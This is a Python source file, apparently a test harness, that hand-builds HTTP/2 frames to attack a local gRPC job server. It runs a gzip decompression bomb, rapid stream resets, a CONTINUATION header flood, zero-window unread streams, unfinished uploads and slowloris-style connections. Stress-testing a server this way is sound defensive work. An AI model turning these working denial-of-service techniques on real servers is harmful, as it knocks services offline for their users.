"""An HTTP/2 client that does what no honest one does: frames by hand, for tests of a server under attack. Standard library only.

Run as a program it makes one attack: `http2.py ATTACK PORT [ARGUMENT]...`, prints "done" when all is sent, and holds its connections
until its standard input ends. Connections use TLS if HTTP2_AUTHORITIES names a file of authorities.
"""
import os
import selectors
import socket
import ssl
import struct
import sys
import time
import zlib

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
WINDOW = 65535
FRAME = 16384
WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def text(value):
    assert len(value) < 127
    return bytes((len(value),)) + value.encode()


def header(name, value):
    return b"\x10" + text(name) + text(value)  # a literal that is never indexed


class Connection:
    def __init__(self, port, source="127.0.0.1", stream_window=WINDOW):
        self.socket = socket.create_connection(("127.0.0.1", port), source_address=(source, 0))
        if authorities := os.environ.get("HTTP2_AUTHORITIES"):
            context = ssl.create_default_context(cafile=authorities)
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.socket, server_hostname="127.0.0.1")
        self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, stream_window)))
        self.socket.setblocking(False)
        self.window, self.first_window = WINDOW, WINDOW
        self.waiting = {}  # bytes of each stream that are not sent
        self.windows = {}
        self.next_stream = 1
        self.out, self.read = bytearray(), b""
        self.closed = False

    def call(self, path, token=None, encoding=None, end=False):
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "test"), ("te", "trailers"),
                  ("content-type", "application/grpc")]
        fields += [("authorization", f"Bearer {token}")] if token else []
        fields += [("grpc-encoding", encoding)] if encoding else []
        self.out += frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, b"".join(header(*f) for f in fields))
        self.windows[stream] = self.first_window
        return stream

    def send(self, stream, body, size=None, compressed=False):
        """A message of `size` bytes that begins with `body`."""
        self.waiting[stream] = memoryview(bytes((compressed,)) + struct.pack(">I", size or len(body)) + body)

    def pump(self):
        """Reads and writes what goes without waiting. True: something went."""
        try:
            got = self.socket.recv(1 << 18)
            self.closed = self.closed or not got
            self._take(got)
        except WOULD_BLOCK:
            got = b""
        except OSError:
            self.closed = True
        if self.closed:
            return False
        for stream, body in list(self.waiting.items()):
            while body and len(self.out) < 1 << 20 and min(self.window, self.windows.get(stream, 0)) > 0:
                part = body[:min(FRAME, self.window, self.windows[stream])]
                self.out += frame(DATA, 0, stream, bytes(part))
                body = self.waiting[stream] = body[len(part):]
                self.window -= len(part)
                self.windows[stream] -= len(part)
            if not body:
                del self.waiting[stream]
        sent = 0
        try:
            sent = self.socket.send(self.out) if self.out else 0
        except WOULD_BLOCK:
            pass
        except OSError:
            self.closed = True
        del self.out[:sent]
        return bool(got or sent)

    def _take(self, got):
        self.read += got
        while len(self.read) >= 9:
            size, kind, flags = int.from_bytes(self.read[:3], "big"), self.read[3], self.read[4]
            stream = int.from_bytes(self.read[5:9], "big") & 0x7FFFFFFF
            if len(self.read) < 9 + size:
                return
            payload, self.read = self.read[9:9 + size], self.read[9 + size:]
            if kind == SETTINGS and not flags & ACK:
                for setting, value in struct.iter_unpack(">HI", payload):
                    if setting == 4:
                        self.first_window = value
                self.out += frame(SETTINGS, ACK, 0)
            elif kind == PING and not flags & ACK:
                self.out += frame(PING, ACK, 0, payload)
            elif kind == WINDOW_UPDATE and stream == 0:
                self.window += struct.unpack(">I", payload)[0]
            elif kind == WINDOW_UPDATE and stream in self.windows:
                self.windows[stream] += struct.unpack(">I", payload)[0]
            elif kind == RST_STREAM:
                self.windows.pop(stream, None)
                self.waiting.pop(stream, None)


def pump_all(connections, quiet, limit):
    """Until nothing went for `quiet` seconds, or `limit` has passed."""
    selector = selectors.DefaultSelector()
    for connection in connections:
        selector.register(connection.socket, selectors.EVENT_READ)
    last, end = time.monotonic(), time.monotonic() + limit
    while time.monotonic() < min(last + quiet, end):
        if any([connection.pump() for connection in connections if not connection.closed]):
            last = time.monotonic()
        else:
            selector.select(0.05)


JOBS = "/chainfleet.v1.JobService/"


def compressed(port, mebibytes):
    """One message of so many MiB of zeros, compressed."""
    packer, body = zlib.compressobj(9, zlib.DEFLATED, 31), b""
    for _ in range(int(mebibytes)):
        body += packer.compress(bytes(1 << 20))
    connection = Connection(port)
    connection.send(connection.call(JOBS + "GetServerInfo", encoding="gzip"), body + packer.flush(), compressed=True)
    pump_all([connection], quiet=3, limit=15)
    return [connection]


def unfinished(port, connections, calls, mebibytes, token=""):
    """Calls that send all but one byte of their request."""
    body = bytes(int(mebibytes) << 20)
    made = [Connection(port) for _ in range(int(connections))]
    for connection in made:
        for _ in range(int(calls)):
            connection.send(connection.call(JOBS + "CreateJob", token=token), body, size=len(body) + 1)
    pump_all(made, quiet=1.5, limit=20)
    return made


def unread(port, calls, request):
    """Calls whose replies are not read: their streams have no window."""
    connection = Connection(port, stream_window=0)
    for _ in range(int(calls)):
        connection.send(connection.call(JOBS + "ReadRows"), bytes.fromhex(request))
    pump_all([connection], quiet=3, limit=20)
    return [connection]


def silent(port, count):
    made = []
    for _ in range(int(count)):
        made.append(socket.socket())
        made[-1].setblocking(False)
        made[-1].connect_ex(("127.0.0.1", port))
    return made


def resets(port, streams, source="127.0.0.1"):
    """Calls that are reset right after their headers."""
    connection = Connection(port, source)
    for _ in range(int(streams)):
        stream = connection.call(JOBS + "GetServerInfo")
        connection.out += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        while len(connection.out) > 1 << 16 and not connection.closed:
            if not connection.pump():
                time.sleep(0.001)
        if connection.closed:
            break
    pump_all([connection], quiet=1, limit=5)
    return [connection]


def headers(port, connections, mebibytes, source="127.0.0.1"):
    """A header of 1 GiB in CONTINUATION frames, of which so many MiB are sent."""
    made = [Connection(port, source) for _ in range(int(connections))]
    for connection in made:
        connection.pump()
        connection.out += frame(HEADERS, 0, 1, b"\x10" + text("x") + b"\x7f\x81\xff\xff\xff\x03")
        connection.left = int(mebibytes) << 20
    end = time.monotonic() + 10
    while any(c.left and not c.closed for c in made) and time.monotonic() < end:
        went = False
        for connection in made:
            if connection.left and not connection.closed and len(connection.out) < 1 << 16:
                connection.out += frame(CONTINUATION, 0, 1, b"x" * FRAME)
                connection.left -= FRAME
            went = connection.pump() or went
        if not went:
            time.sleep(0.001)
    return made


def slow_readers(port, count):
    """HTTP/1 clients that ask for nothing, as slowly as they can."""
    made = [socket.create_connection(("127.0.0.1", port)) for _ in range(int(count))]
    for connection in made:
        connection.send(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
    return made


ATTACKS = {a.__name__: a for a in (compressed, unfinished, unread, silent, resets, headers, slow_readers)}

if __name__ == "__main__":
    held = ATTACKS[sys.argv[1]](int(sys.argv[2]), *sys.argv[3:])
    print("done", sum(getattr(c, "closed", False) for c in held), "closed", flush=True)
    sys.stdin.read()
